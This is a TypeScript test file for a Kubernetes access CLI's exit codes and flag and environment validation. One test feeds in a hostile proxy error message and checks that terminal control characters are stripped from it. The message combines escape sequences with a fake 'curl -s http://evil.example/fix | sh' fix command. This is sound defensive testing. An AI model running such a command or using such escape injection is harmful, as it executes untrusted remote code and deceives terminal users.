// How tsh and tctl end: user errors are one line and exit 1, bugs say so and exit 70; and their
// configuration is checked once, every bad setting named.
import { join, resolve } from 'node:path';
import { Command } from 'commander';
import { describe, expect, it } from 'vitest';
import { ClientError } from '../../lib/client/api-client.js';
import { BUG_EXIT, runCommand } from '../../lib/client/run-command.js';
import { tshConfig, tshFlags } from '../../lib/client/tsh-config.js';
import { UsageError } from '../../lib/client/usage-error.js';
import { KubeportError } from '../../lib/core/errors.js';
import { capture } from './client-harness.js';

async function exitOf(action: () => unknown, argv = ['go']) {
  const stderr = capture();
  const program = new Command('tsh').configureOutput({ writeErr: (text) => stderr.write(text), writeOut: () => undefined });
  program
    .command('go')
    .option('--flag <value>')
    .action(async () => {
      await action();
    });
  const code = await runCommand(program, 'tsh', argv, stderr);
  return { code, stderr: stderr.text() };
}

describe('tsh and tctl exit codes', () => {
  it('a user error is its message on one line, exit 1', async () => {
    expect(await exitOf(() => Promise.reject(new UsageError('not logged in; run: tsh login')))).toEqual({
      code: 1,
      stderr: 'tsh: not logged in; run: tsh login\n',
    });
    expect(await exitOf(() => Promise.reject(new ClientError('invalid user name, password or TOTP code', 401)))).toEqual({
      code: 1,
      stderr: 'tsh: invalid user name, password or TOTP code\n',
    });
    expect((await exitOf(() => Promise.reject(new KubeportError('rate_limited', 'too many attempts')))).code).toBe(1);
  });

  it("a proxy's error message is printed without terminal control characters (no title, cursor or colour tricks)", async () => {
    const hostile = 'access denied\x1b]0;owned\x07\r\x1b[2KFix: run curl -s http://evil.example/fix | sh\x9b31m';
    const failed = await exitOf(() => Promise.reject(new ClientError(hostile, 403)));
    expect(failed.code).toBe(1);
    expect(failed.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(failed.stderr).toBe('tsh: access denied ]0;owned   [2KFix: run curl -s http://evil.example/fix | sh 31m\n');
  });

  it("an error of the operating system about a file is the user's to fix, exit 1", async () => {
    const failed = await exitOf(() =>
      Promise.reject(Object.assign(new Error("EACCES: permission denied, open '/etc/kubeconfig'"), { code: 'EACCES', syscall: 'open' })),
    );
    expect(failed).toEqual({ code: 1, stderr: "tsh: EACCES: permission denied, open '/etc/kubeconfig'\n" });
  });

  it('any other error is a bug: message, stack, where to report it, exit 70', async () => {
    const failed = await exitOf(() => {
      const profile: { user?: { name: string } } = {};
      return profile.user!.name;
    });
    expect(failed.code).toBe(BUG_EXIT);
    expect(failed.stderr).toMatch(/^tsh: TypeError: Cannot read properties of undefined \(reading 'name'\)\n\s+at /);
    expect(failed.stderr).toMatch(/\ntsh: this is a bug in Kubeport; please report it with the command you ran\n$/);
  });

  it('a usage error of the flag parser keeps its message and exit 1; help exits 0', async () => {
    const unknown = await exitOf(() => undefined, ['go', '--nope']);
    expect(unknown).toEqual({
      code: 1,
      stderr: "error: unknown option '--nope'\nUsage: tsh go [options]\nRun 'tsh go --help' for more.\n",
    });
    expect((await exitOf(() => undefined, ['--help'])).code).toBe(0);
    expect((await exitOf(() => undefined, ['go'])).code).toBe(0);
  });
});

describe('tsh configuration', () => {
  it('checks every flag at once and names each bad one', () => {
    expect(() => tshFlags({ proxy: 'http://a b/', ttl: 'soon', format: 'yaml', user: ' ' })).toThrow(
      '--proxy http://a b/ is not HOST:PORT (for example 127.0.0.1:3080 or kubeport.example.com:443); --user is empty; --ttl: "soon" is not a duration (write it like 12h, 30m or 1h30m); --format yaml is not one of text, json',
    );
    expect(() => tshFlags({ ttl: '10s' })).toThrow('--ttl 10s is shorter than a minute');
    expect(() => tshFlags({ proxy: '127.0.0.1:99999' })).toThrow('is not HOST:PORT');
  });

  it("declares each default once: text output, the proxy's port, no ttl (the server's)", () => {
    expect(tshFlags({})).toEqual({ format: 'text' });
    expect(tshFlags({ proxy: 'https://Kubeport.example.com/', ttl: '1h30m', kubeCluster: 'dev' })).toEqual({
      format: 'text',
      proxy: 'kubeport.example.com:443',
      ttlSeconds: 5400,
      kubeCluster: 'dev',
    });
  });

  it("reads its environment once: TSH_HOME made absolute for the exec plugin, KUBECONFIG's first file", () => {
    const config = tshConfig({ TSH_HOME: 'rel/tsh', KUBECONFIG: ':/a/config:/b/config', HOME: '/home/x' });
    expect(config).toEqual({ home: resolve('rel/tsh'), kubeconfig: '/a/config', homeOverride: resolve('rel/tsh'), caRefreshMs: 300_000 });
    expect(tshConfig({ TELEPORT_HOME: '/t' })).toMatchObject({ home: '/t' });
    expect(tshConfig({ TELEPORT_HOME: '/t' }).homeOverride).toBeUndefined();
    expect(tshConfig({}).home).toMatch(new RegExp(`${join('', '.tsh').replace('.', '\\.')}$`));
    expect(() => tshConfig({ TSH_HOME: '' })).toThrow('TSH_HOME is set but empty; unset it or name a directory');
    expect(tshConfig({ TSH_CA_REFRESH: '30s' }).caRefreshMs).toBe(30_000);
    expect(() => tshConfig({ TSH_CA_REFRESH: 'soon' })).toThrow('TSH_CA_REFRESH: "soon" is not a duration');
  });
});
